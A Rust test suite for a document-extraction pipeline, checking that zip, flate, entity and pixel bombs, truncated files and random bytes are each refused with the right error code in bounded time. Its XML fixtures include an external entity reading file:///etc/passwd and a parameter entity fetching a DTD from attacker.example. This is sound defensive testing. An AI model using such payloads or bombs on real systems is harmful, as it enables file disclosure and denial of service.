//! The bomb corpus: hostile files made here (`make`) and run through the real pipeline
//! entry point, `Pipeline::process`, each expecting its own error code, in bounded
//! time, without a panic. Zip, flate and XML entity bombs, pixel bombs, nesting,
//! truncation at several offsets, empty files and random bytes behind a valid magic
//! number.
//!
//! The format modules test their limits on their own functions; this suite checks that
//! the pipeline as a whole stops each attack, with the code an integrator branches on.

mod make;

use std::panic::{AssertUnwindSafe, catch_unwind};
use std::time::{Duration, Instant};

use liasse_core::{DocClass, DocumentId, ErrorCode, Extraction};

use crate::test_support::{pipeline, png, render_first_page, sample};
use crate::{Input, NO_TEXT, Options, Result};

/// Longest any hostile file may take, in a debug build on two cores. A document that
/// takes longer is an attack that works.
const TIME_LIMIT: Duration = Duration::from_secs(20);

/// What a case must end in.
#[derive(Debug, Clone, Copy)]
enum Expect {
    /// The document fails with this code.
    Fails(ErrorCode),
    /// The document fails with one of these codes.
    FailsWithOneOf(&'static [ErrorCode]),
    /// A result that says what went wrong: a review reason starting with this text.
    ReviewedFor(&'static str),
    /// A result (what it must hold is checked by the case).
    Reads,
}

/// Runs one file through the pipeline; returns what went wrong, if anything.
fn check(name: &str, bytes: &[u8], expect: Expect) -> Option<String> {
    check_with(name, bytes, expect, |_| Ok(()))
}

/// `check`, with `more` run on a successful result for what the case must also hold.
fn check_with(
    name: &str,
    bytes: &[u8],
    expect: Expect,
    more: impl FnOnce(&Extraction) -> std::result::Result<(), String>,
) -> Option<String> {
    let options = Options::default();
    let started = Instant::now();
    let outcome: std::thread::Result<Result<Extraction>> = catch_unwind(AssertUnwindSafe(|| {
        pipeline().process(Input { document_id: DocumentId::new(), filename: name, bytes, options: &options })
    }));
    let elapsed = started.elapsed();
    let problem = match (outcome, expect) {
        (Err(_panic), _) => Some("the pipeline panicked".to_owned()),
        (Ok(Err(error)), Expect::Fails(code)) if error.code == code => None,
        (Ok(Err(error)), Expect::FailsWithOneOf(codes)) if codes.contains(&error.code) => None,
        (Ok(Ok(extraction)), Expect::ReviewedFor(prefix))
            if extraction.review_reasons.iter().any(|reason| reason.starts_with(prefix)) =>
        {
            more(&extraction).err()
        }
        (Ok(Ok(extraction)), Expect::Reads) => more(&extraction).err(),
        (Ok(Err(error)), _) => Some(format!("failed with {error}")),
        (Ok(Ok(extraction)), _) => {
            Some(format!("succeeded as {} with review reasons {:?}", extraction.class, extraction.review_reasons))
        }
    };
    if elapsed > TIME_LIMIT {
        return Some(format!("{name}: took {elapsed:?}"));
    }
    problem.map(|problem| format!("{name} (expected {expect:?}): {problem}"))
}

/// Fails the test with every case that went wrong, not just the first.
fn assert_all(problems: impl IntoIterator<Item = Option<String>>) {
    let problems: Vec<String> = problems.into_iter().flatten().collect();
    assert!(problems.is_empty(), "{}", problems.join("\n"));
}

const GIB_IN_MIB: usize = 1024;

#[test]
fn zip_bombs_are_refused_from_their_directory() {
    let workbook = sample("spreadsheets/facture-lignes.xlsx");
    let xlsx_bomb = make::xlsx_with_shared_strings_bomb(&workbook, GIB_IN_MIB, None);
    assert!(xlsx_bomb.len() < 2 * 1024 * 1024, "a GiB of shared strings in {} bytes", xlsx_bomb.len());
    let ods_bomb = make::ods_with_content_bomb(&sample("spreadsheets/facture.ods"), GIB_IN_MIB);
    // Entries that all point at the same deflated bytes, each expanding some 50 times
    // (under the ratio), all together thousands of times the size of the archive.
    let plain: Vec<u8> = make::random_after(&[], 2 << 20, 7)
        .into_iter()
        .enumerate()
        .map(|(index, byte)| if index % 200 == 0 { byte } else { 0 })
        .collect();
    let shared = make::ZipEntry::deflated("xl/media/image.bin", &plain);
    let ratio = u64::from(shared.size) / shared.stored.len() as u64;
    assert!((10..100).contains(&ratio), "each entry expands {ratio} times");
    let mut overlapping = make::entries_of(&workbook);
    let first = overlapping.len();
    overlapping.push(shared.clone());
    for index in 0..64 {
        let name = format!("xl/media/image{index}.bin");
        overlapping.push(make::ZipEntry { name, alias_of: Some(first), ..shared.clone() });
    }
    let overlapping = make::zip(&overlapping);
    // A directory that lies, declaring a few bytes for the same GiB: the zip reader
    // stops at the declared size, so the shared strings end early and the workbook is
    // damaged, without a GiB ever being inflated.
    let lying = make::xlsx_with_shared_strings_bomb(&workbook, GIB_IN_MIB, Some(4096));
    assert_all([
        check("bomb.xlsx", &xlsx_bomb, Expect::Fails(ErrorCode::DecompressionBomb)),
        check("bomb.ods", &ods_bomb, Expect::Fails(ErrorCode::DecompressionBomb)),
        check("overlapping.xlsx", &overlapping, Expect::Fails(ErrorCode::DecompressionBomb)),
        check("lying.xlsx", &lying, Expect::Fails(ErrorCode::CorruptSpreadsheet)),
    ]);
    // The real workbook, under the same limits, still reads.
    let extraction = pipeline()
        .process(Input {
            document_id: DocumentId::new(),
            filename: "ok.xlsx",
            bytes: &workbook,
            options: &Options::default(),
        })
        .expect("the sample workbook reads");
    assert!(!extraction.line_items.is_empty());
}

#[test]
fn flate_bombs_in_pdfs_are_refused_before_pdfium_sees_them() {
    let gib_of_zeros = make::zlib_zeros(GIB_IN_MIB);
    assert!(gib_of_zeros.len() < 2 * 1024 * 1024);
    let content_bomb = make::pdf_with_content(gib_of_zeros.clone(), &["FlateDecode"]);
    // Two layers: a few kilobytes that expand to a mebibyte, which expands to a GiB.
    let nested = make::zlib(&gib_of_zeros);
    assert!(nested.len() < 64 * 1024, "{} bytes", nested.len());
    let nested_bomb = make::pdf_with_content(nested, &["FlateDecode", "FlateDecode"]);
    let embedded_bomb = make::pdf_with_embedded_file(gib_of_zeros.clone());
    // Under the ratio, over the total: 600 MiB of zeros compress to 600 kB.
    let huge_embedded = make::pdf_with_embedded_file(make::zlib_zeros(600));
    // Without the pointer to its cross-reference section: lopdf must rebuild the
    // structure (or give up, leaving PDFium to repair it) and the bomb is still found.
    let xref = content_bomb.windows(9).rposition(|window| window == b"startxref").expect("a startxref");
    let damaged_bomb = content_bomb[..xref].to_vec();
    assert_all([
        check("content-bomb.pdf", &content_bomb, Expect::Fails(ErrorCode::DecompressionBomb)),
        check("damaged-content-bomb.pdf", &damaged_bomb, Expect::Fails(ErrorCode::DecompressionBomb)),
        check("nested-bomb.pdf", &nested_bomb, Expect::Fails(ErrorCode::DecompressionBomb)),
        check("embedded-bomb.pdf", &embedded_bomb, Expect::Fails(ErrorCode::DecompressionBomb)),
        check("huge-embedded.pdf", &huge_embedded, Expect::Fails(ErrorCode::DecompressionBomb)),
    ]);
}

#[test]
fn image_data_bombs_stop_at_the_declared_pixels() {
    // Image data is not charged to the budget: decoders stop at the declared pixels.
    // A GiB of zeros behind a 400 × 300 header decodes to a black page, quickly.
    let gib_of_zeros = make::zlib_zeros(GIB_IN_MIB);
    let pdf = make::pdf_with_image(400, 300, gib_of_zeros.clone());
    let png = make::png_with_data(400, 300, &gib_of_zeros);
    assert_all([
        check("image-bomb.pdf", &pdf, Expect::ReviewedFor(NO_TEXT)),
        check("idat-bomb.png", &png, Expect::ReviewedFor(NO_TEXT)),
    ]);
}

#[test]
fn pixel_bombs_are_refused_before_decoding() {
    let png = make::png_with_data(100_000, 100_000, &make::zlib(&[0; 64]));
    let tiff = make::tiff_declaring(100_000, 100_000);
    assert!(png.len() < 200 && tiff.len() < 200);
    assert_all([
        check("pixels.png", &png, Expect::Fails(ErrorCode::TooManyPixels)),
        check("pixels.tif", &tiff, Expect::Fails(ErrorCode::TooManyPixels)),
    ]);
}

#[test]
fn entity_bombs_and_external_entities_are_refused() {
    let laughs = sample("malformed/entity-bomb.xml");
    let external = br#"<?xml version="1.0"?><!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"><ID>&xxe;</ID></Invoice>"#;
    let parameter =
        br#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><r/>"#;
    // The same bomb as the Factur-X XML of a PDF: the page is read instead, and the
    // review says why.
    let pdf = crate::pdf::tests::save(crate::pdf::tests::build_pdf(
        &["Facture F-1"],
        &[("factur-x.xml", &laughs)],
        crate::pdf::tests::AttachmentLayout::NameTreeAndAssociatedFiles,
    ));
    assert_all([
        check("laughs.xml", &laughs, Expect::Fails(ErrorCode::MalformedXml)),
        check("xxe.xml", external, Expect::Fails(ErrorCode::MalformedXml)),
        check("parameter-entity.xml", parameter, Expect::Fails(ErrorCode::MalformedXml)),
        check("laughs.pdf", &pdf, Expect::ReviewedFor("the embedded e-invoice XML cannot be read (malformed_xml")),
    ]);
}

#[test]
fn fifty_forwarded_messages_stop_at_the_nesting_limit() {
    let max_nesting = pipeline().config().limits.max_nesting;
    let message = make::nested_messages(50);
    let deepest_read = |extraction: &Extraction| {
        let mut current = extraction;
        for level in 1..=max_nesting {
            match current.children.first() {
                Some(child) if child.extraction.class == DocClass::Email => current = &child.extraction,
                _ => return Err(format!("no e-mail child at level {level}")),
            }
        }
        let too_deep = current.children.first().ok_or("no child past the limit")?;
        match too_deep.extraction.review_reasons.first() {
            Some(reason) if reason.starts_with(ErrorCode::NestingTooDeep.as_str()) => Ok(()),
            other => Err(format!("the child past the limit has {other:?}")),
        }
    };
    // Ten thousand multiparts inside each other: one message, parsed without recursion.
    let multiparts = make::nested_multiparts(10_000);
    assert_all([
        check_with("nested.eml", message.as_bytes(), Expect::Reads, deepest_read),
        check_with("multiparts.eml", multiparts.as_bytes(), Expect::Reads, |extraction| {
            (extraction.class == DocClass::Email).then_some(()).ok_or_else(|| "not an e-mail".to_owned())
        }),
    ]);
}

/// Offsets at which a file is cut: just past its magic number, then spread over it.
fn cuts(len: usize) -> Vec<usize> {
    vec![12, len / 5, len / 2, len * 4 / 5, len - 16, len - 1]
}

#[test]
fn truncated_files_fail_with_their_format_code() {
    let mut problems = Vec::new();
    let xlsx = sample("spreadsheets/facture-lignes.xlsx");
    for cut in cuts(xlsx.len()) {
        // Cut before the first entry name, nothing says it was a workbook.
        let expect = if cut < 64 {
            Expect::Fails(ErrorCode::UnsupportedFormat)
        } else {
            Expect::Fails(ErrorCode::CorruptSpreadsheet)
        };
        problems.push(check(&format!("xlsx cut at {cut}"), &xlsx[..cut], expect));
    }
    let page = png(&render_first_page(&sample("demo/facture-2024-0042.pdf"), 50.0));
    let (last, earlier) = cuts(page.len()).split_last().map(|(last, earlier)| (*last, earlier.to_vec())).expect("cuts");
    for cut in earlier {
        problems.push(check(&format!("png cut at {cut}"), &page[..cut], Expect::Fails(ErrorCode::CorruptImage)));
    }
    // Cut inside the end marker, after the last pixel: the page is all there, and read.
    problems.push(check(&format!("png cut at {last}"), &page[..last], Expect::Reads));
    // lopdf gives up on a cut PDF; PDFium repairs what it can. Either the document
    // fails as corrupt, or its pages are read and the review says the file is damaged,
    // or, cut after its last object, it is read whole and exactly.
    let pdf = sample("demo/facturx-2024-0050.pdf");
    for cut in cuts(pdf.len()) {
        let name = format!("pdf cut at {cut}");
        let options = Options::default();
        let outcome = pipeline().process(Input {
            document_id: DocumentId::new(),
            filename: &name,
            bytes: &pdf[..cut],
            options: &options,
        });
        let problem = match outcome {
            Err(error) if error.code == ErrorCode::CorruptPdf => None,
            Ok(extraction) if extraction.review_reasons.iter().any(|reason| reason.contains("damaged")) => None,
            Ok(extraction)
                if extraction.field("invoice_number").and_then(|field| field.as_str()) == Some("FA-2024-0050") =>
            {
                None
            }
            other => Some(format!("{name}: {other:?}")),
        };
        problems.push(problem);
    }
    // A cut message is still a message; a cut attachment fails on its own, with its
    // format's code.
    let eml = sample("demo/email-facture-fournisseur.eml");
    for cut in cuts(eml.len()).into_iter().skip(1) {
        let attachments_fail_well = |extraction: &Extraction| {
            if extraction.class != DocClass::Email {
                return Err(format!("read as {}", extraction.class));
            }
            let reasons: Vec<&String> =
                extraction.children.iter().flat_map(|child| &child.extraction.review_reasons).collect();
            match reasons.iter().find(|reason| reason.starts_with(ErrorCode::InternalError.as_str())) {
                Some(reason) => Err(format!("an attachment failed with {reason}")),
                None => Ok(()),
            }
        };
        problems.push(check_with(&format!("eml cut at {cut}"), &eml[..cut], Expect::Reads, attachments_fail_well));
    }
    assert_all(problems);
}

#[test]
fn empty_files_and_random_bytes_behind_a_magic_number() {
    let cases: [(&str, &[u8], Expect); 8] = [
        ("pdf", b"%PDF-1.7\n", Expect::Fails(ErrorCode::CorruptPdf)),
        ("png", b"\x89PNG\r\n\x1a\n", Expect::Fails(ErrorCode::CorruptImage)),
        ("jpeg", &[0xFF, 0xD8, 0xFF, 0xE0], Expect::Fails(ErrorCode::CorruptImage)),
        ("tiff-le", b"II*\0", Expect::FailsWithOneOf(&[ErrorCode::CorruptImage, ErrorCode::UnsupportedFormat])),
        ("tiff-be", b"MM\0*", Expect::FailsWithOneOf(&[ErrorCode::CorruptImage, ErrorCode::UnsupportedFormat])),
        ("zip", b"PK\x03\x04", Expect::Fails(ErrorCode::UnsupportedFormat)),
        (
            "ole",
            &[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1],
            Expect::FailsWithOneOf(&[ErrorCode::CorruptSpreadsheet, ErrorCode::UnsupportedFormat]),
        ),
        // A format Liasse does not know is stored as class other, for review.
        ("gzip", &[0x1F, 0x8B, 0x08, 0x00], Expect::ReviewedFor("unrecognised documents are not read yet")),
    ];
    let mut problems = vec![check("empty", b"", Expect::Fails(ErrorCode::EmptyDocument))];
    for (name, magic, expect) in cases {
        for (seed, len) in [(0x2545_f491, 64), (0x9e37_79b9, 4096), (0x85eb_ca6b, 200_000)] {
            let bytes = make::random_after(magic, len, seed);
            problems.push(check(&format!("{name} + {len} random bytes"), &bytes, expect));
        }
    }
    assert_all(problems);
}

/// Inputs on which a parser the pipeline calls panicked, found by the fuzz targets
/// (`fuzz/`, `scripts/fuzz.sh`), made again here in readable form.
#[test]
fn parser_panics_found_by_fuzzing_fail_the_document_with_its_code() {
    // calamine subtracts the start of a sheet's `<dimension>` from its end without a
    // check: a range that ends before it starts overflows where overflow is checked
    // (debug builds, the fuzz build), and only logs a warning where it is not.
    let workbook = sample("spreadsheets/facture-lignes.xlsx");
    let reversed = make::with_entry_edited(&workbook, "xl/worksheets/sheet1.xml", r#"ref="A1:F16""#, r#"ref="F16:A1""#);
    let expect = if cfg!(debug_assertions) { Expect::Fails(ErrorCode::CorruptSpreadsheet) } else { Expect::Reads };
    assert_all([check("reversed-dimension.xlsx", &reversed, expect)]);
}
